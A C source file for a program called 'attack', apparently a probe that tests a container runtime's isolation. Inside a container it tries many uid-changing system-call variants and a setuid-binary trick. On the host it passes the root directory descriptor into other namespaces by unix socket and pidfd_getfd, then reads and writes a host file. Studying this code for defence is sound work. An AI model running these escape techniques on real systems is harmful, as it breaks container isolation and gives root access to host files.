/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * attack - root inside a container to root outside, for whoever has a shell on the host.
 *
 *   attack inside UID:GID FILE   in the container: by every way that the kernel knows, a child becomes UID, for
 *                            an accomplice outside to come in through; whoever hands in a descriptor of the
 *                            host's root directory gets FILE below it read and written
 *   attack abstract FILE     in the container: the same for what comes by an abstract socket of its network
 *   attack relay             in another container on that network, which has the user's own id: passes on to that
 *                            socket what is handed in from outside
 *   attack outside           on the host, as the user: hands the host's root directory to every process of the
 *                            user's that is in another process namespace, by unix socket and by pidfd_getfd(2)
 *
 * What it says: `uid by WAY` for each way that worked, `reached TEXT` when the file was read.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fsuid.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define SOCKET "/tmp/attack.sock"
#define ABSTRACT "\0safedocker-attack"
#define SECONDS 20

static void say(const char *format, const char *what)
{
	char line[600];
	int n = snprintf(line, sizeof(line), format, what);

	if (write(1, line, (size_t)n) < 0)
		_exit(1);
}

/* --- becoming the user ----------------------------------------------------------------- */
#ifdef __x86_64__
/* The same system calls by their 32-bit numbers, and by those of x32. */
static long old_call(long number, long a, long b, long c)
{
	long result;

	__asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9",
			 "r10", "r11");
	return (int)result;
}
#else
static long old_call(long number, long a, long b, long c)
{
	(void)number, (void)a, (void)b, (void)c;
	return -1;
}
#endif

static const char *const ways[] = {
	"setuid", "setreuid", "setresuid", "seteuid", "setresuid-saved-first", "setfsuid", "high-half", "setuid32",
	"setreuid32", "setresuid32", "setfsuid32", "setuid16", "setreuid16", "setresuid16", "x32", "setuid-file",
	"user-namespace", "clone3",
};

static int try_way(size_t way, uid_t uid)
{
	switch (way) {
	case 0: return (int)syscall(SYS_setuid, uid);
	case 1: return (int)syscall(SYS_setreuid, uid, uid);
	case 2: return (int)syscall(SYS_setresuid, uid, uid, uid);
	case 3: return (int)syscall(SYS_setresuid, -1, uid, -1);
	case 4: return syscall(SYS_setresuid, -1, -1, uid) < 0 || syscall(SYS_setresuid, uid, uid, -1) < 0 ? -1 : 0;
	case 5: (void)syscall(SYS_setfsuid, uid); return syscall(SYS_setfsuid, -1) == (long)uid ? 0 : -1;
	/* The kernel looks at 32 bits of what is in the register. */
	case 6: return (int)syscall(SYS_setresuid, 0x100000000 | uid, 0x100000000 | uid, 0x100000000 | uid);
#ifdef __x86_64__
	case 7: return (int)old_call(213, uid, 0, 0);
	case 8: return (int)old_call(203, uid, uid, 0);
	case 9: return (int)old_call(208, uid, uid, uid);
	case 10: (void)old_call(215, uid, 0, 0); return old_call(215, -1, 0, 0) == (long)uid ? 0 : -1;
	case 11: return (int)old_call(23, uid | 0x10000, 0, 0);
	case 12: return (int)old_call(70, uid, uid, 0);
	case 13: return (int)old_call(164, uid, uid, uid);
	case 14: return (int)syscall(0x40000000 | SYS_setresuid, uid, uid, uid);
#endif
	case 16: return (int)syscall(SYS_unshare, 0x10000000 /* CLONE_NEWUSER */);
	case 17: {
		struct { unsigned long long word[11]; } arguments = { { 0x10000000, 0, 0, 0, SIGCHLD } };
		long pid = syscall(435, &arguments, sizeof(arguments));

		if (pid == 0)
			_exit(0);
		return pid > 0 ? 0 : -1;
	}
	default: return -1;
	}
}

/* A copy of this program that belongs to the user, and sets the uid. */
static int by_file(const char *self, uid_t uid)
{
	char command[300];

	(void)snprintf(command, sizeof(command), "busybox cp %s /tmp/by-file && busybox chown %u /tmp/by-file && "
		       "busybox chmod 6755 /tmp/by-file && /tmp/by-file euid %u", self, (unsigned)uid, (unsigned)uid);
	return system(command) == 0 ? 0 : -1;
}

/* In a child: the ways that work stay, each as a process that the user may enter. */
static void become(const char *self, uid_t uid, gid_t gid, int end)
{
	for (size_t way = 0; way < sizeof(ways) / sizeof(ways[0]); way++) {
		pid_t pid = fork();

		if (pid != 0)
			continue;
		/* The kernel compares both; a group is never refused. */
		if (syscall(SYS_setresgid, gid, gid, gid) < 0 && getgid() != gid)
			say("no group by %s\n", ways[way]);
		if (way == 15 ? by_file(self, uid) == 0 : try_way(way, uid) == 0) {
			say("uid by %s\n", ways[way]);
			/* Not dumpable since its ids changed: only execve(2) makes it so again. */
			(void)dup2(end, 9);
			(void)execl(self, self, "wait", (char *)NULL);
		}
		_exit(0);
	}
}

/* --- taking the descriptor ---------------------------------------------------------------- */
static int receive(int fd)
{
	char byte, control[CMSG_SPACE(sizeof(int))];
	struct iovec iov = { &byte, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control) };
	const struct cmsghdr *c;
	int got = -1;

	if (recvmsg(fd, &m, MSG_DONTWAIT) > 0 && (c = CMSG_FIRSTHDR(&m)) != NULL && c->cmsg_type == SCM_RIGHTS)
		memcpy(&got, CMSG_DATA(c), sizeof(got));
	return got;
}

static void use(int root, const char *file)
{
	char text[200] = "";
	int fd = openat(root, file + 1, O_RDWR | O_APPEND);
	ssize_t n = fd >= 0 ? read(fd, text, sizeof(text) - 1) : -1;

	if (n > 0 && write(fd, "written\n", 8) == 8) {
		text[strcspn(text, "\n")] = '\0';
		say("reached %s\n", text);
	} else {
		say("handed in, but not reached: %s\n", strerror(errno));
	}
}

static int hand_over(int socket_fd, int fd)
{
	char byte = 'x', control[CMSG_SPACE(sizeof(int))] = "";
	struct iovec iov = { &byte, 1 };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof(fd));
	return sendmsg(socket_fd, &m, MSG_NOSIGNAL | MSG_DONTWAIT) > 0 ? 0 : -1;
}

static int hand_root_over(int socket_fd)
{
	int root = open("/", O_RDONLY | O_DIRECTORY);
	int r = hand_over(socket_fd, root);

	(void)close(root);
	return r;
}

static struct sockaddr_un abstract(void)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };

	memcpy(address.sun_path, ABSTRACT, sizeof(ABSTRACT));
	return address;
}

static void pass_on(int root)
{
	struct sockaddr_un address = abstract();
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0 && hand_over(fd, root) == 0)
		say("%s\n", "passed on");
	else
		say("not passed on: %s\n", strerror(errno));
	(void)close(fd);
}

static int by_abstract(const char *file)
{
	struct sockaddr_un address = abstract();
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);

	if (bind(listener, (struct sockaddr *)&address, sizeof(address)) < 0 || listen(listener, 20) < 0) {
		say("cannot begin: %s\n", strerror(errno));
		return 1;
	}
	say("%s\n", "ready");
	for (int i = 0; i < SECONDS * 10; i++) {
		struct pollfd one = { .fd = listener, .events = POLLIN };
		int client, got;

		if (poll(&one, 1, 100) <= 0)
			continue;
		client = accept(listener, NULL, NULL);
		one.fd = client;
		(void)poll(&one, 1, 1000);
		got = receive(client);
		(void)close(client);
		if (got >= 0)
			use(got, file);
	}
	return 0;
}

/* Without a file: what is handed in is passed on, and nothing else tried. */
static int inside(const char *self, uid_t uid, gid_t gid, const char *file)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX, .sun_path = SOCKET };
	int pair[2], listener = socket(AF_UNIX, SOCK_STREAM, 0);

	(void)unlink(SOCKET);
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0 ||
	    bind(listener, (struct sockaddr *)&address, sizeof(address)) < 0 || listen(listener, 20) < 0) {
		say("cannot begin: %s\n", strerror(errno));
		return 1;
	}
	(void)chmod(SOCKET, 0777);
	if (file != NULL)
		become(self, uid, gid, pair[1]);
	else
		(void)dup2(pair[1], 9);
	say("%s\n", "ready");
	for (int i = 0; i < SECONDS * 10; i++) {
		struct pollfd fds[2] = { { .fd = listener, .events = POLLIN }, { .fd = pair[0], .events = POLLIN } };
		int got = -1;

		if (poll(fds, 2, 100) <= 0)
			continue;
		if (fds[0].revents != 0) {
			int client = accept(listener, NULL, NULL);
			struct pollfd one = { .fd = client, .events = POLLIN };

			(void)poll(&one, 1, 1000);
			got = receive(client);
			(void)close(client);
		} else if (fds[1].revents != 0) {
			got = receive(pair[0]);
		}
		if (got >= 0 && file != NULL)
			use(got, file);
		else if (got >= 0)
			pass_on(got);
	}
	say("%s\n", "done");
	return 0;
}

/* --- handing it in -------------------------------------------------------------------------- */
static void try_process(const char *pid)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0), process = (int)syscall(434 /* pidfd_open */, atoi(pid), 0);

	(void)snprintf(address.sun_path, sizeof(address.sun_path), "/proc/%.12s/root" SOCKET, pid);
	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0 && hand_root_over(fd) == 0)
		say("%s\n", "handed in by socket");
	(void)close(fd);
	for (int i = 3; i < 12 && process >= 0; i++) {
		fd = (int)syscall(438 /* pidfd_getfd */, process, i, 0);
		if (fd >= 0 && hand_root_over(fd) == 0)
			say("%s\n", "handed in by pidfd_getfd");
		if (fd >= 0)
			(void)close(fd);
	}
	if (process >= 0)
		(void)close(process);
}

static int outside(void)
{
	char own[64] = "", theirs[64], path[300];
	const struct dirent *entry;
	DIR *proc = opendir("/proc");

	(void)!readlink("/proc/self/ns/pid", own, sizeof(own) - 1);
	while (proc != NULL && (entry = readdir(proc)) != NULL) {
		struct stat st;
		ssize_t n;

		if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
			continue;
		(void)snprintf(path, sizeof(path), "/proc/%s/ns/pid", entry->d_name);
		n = readlink(path, theirs, sizeof(theirs) - 1);
		theirs[n > 0 ? n : 0] = '\0';
		if (n > 0 && strcmp(own, theirs) == 0)
			continue;
		(void)snprintf(path, sizeof(path), "/proc/%s", entry->d_name);
		/* What may not even be looked at is tried as well. */
		if (n > 0 || (stat(path, &st) == 0 && st.st_uid == getuid()))
			try_process(entry->d_name);
	}
	return 0;
}

int main(int argc, char **argv)
{
	static char self[300];

	(void)!readlink("/proc/self/exe", self, sizeof(self) - 1);
	if (argc == 4 && strcmp(argv[1], "inside") == 0 && strchr(argv[2], ':') != NULL)
		return inside(self, (uid_t)atoi(argv[2]), (gid_t)atoi(strchr(argv[2], ':') + 1), argv[3]);
	if (argc == 3 && strcmp(argv[1], "abstract") == 0)
		return by_abstract(argv[2]);
	if (argc == 2 && strcmp(argv[1], "relay") == 0)
		return inside(self, 0, 0, NULL);
	/* Does this kernel take 32-bit system calls at all? */
	if (argc == 2 && strcmp(argv[1], "old-calls") == 0)
		return old_call(24 /* getuid */, 0, 0, 0) < 0;
	if (argc == 2 && strcmp(argv[1], "outside") == 0)
		return outside();
	if (argc == 3 && strcmp(argv[1], "euid") == 0)
		return geteuid() == (uid_t)atoi(argv[2]) && getuid() != geteuid() ? 0 : 1;
	if (argc == 2 && strcmp(argv[1], "wait") == 0)
		(void)sleep(SECONDS);
	return 0;
}
